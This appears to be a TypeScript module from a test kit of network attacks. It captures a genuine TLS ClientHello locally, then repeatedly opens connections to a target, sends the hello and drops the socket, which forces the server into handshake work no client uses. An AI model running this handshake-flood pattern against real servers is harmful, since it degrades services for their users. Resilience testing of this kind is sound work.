import { createServer, type Socket } from 'node:net';
import { connect } from 'node:tls';
import type { Attack } from '../kit/attack.js';

/** What a client sends first: recorded from a real one. */
function firstBytes(): Promise<Buffer> {
  return new Promise((resolve) => {
    const server = createServer((socket: Socket) => {
      socket
        .on('error', () => undefined)
        .once('data', (bytes: Buffer) => {
          socket.destroy();
          server.close();
          resolve(bytes);
        });
    });
    server.listen(0, '127.0.0.1', () => {
      const { port } = server.address() as { port: number };
      connect({ host: '127.0.0.1', port }).on('error', () => undefined);
    });
  });
}

/** Each makes the box compute its answer, which no client reads. */
export const attack: Attack = {
  name: 'TLS handshakes that are cut after the first message',
  async run(target) {
    const hello = await firstBytes();
    await target.repeat(16, async () => {
      const socket = await target.tcp();
      socket?.write(hello, () => socket.destroy());
    });
  },
};
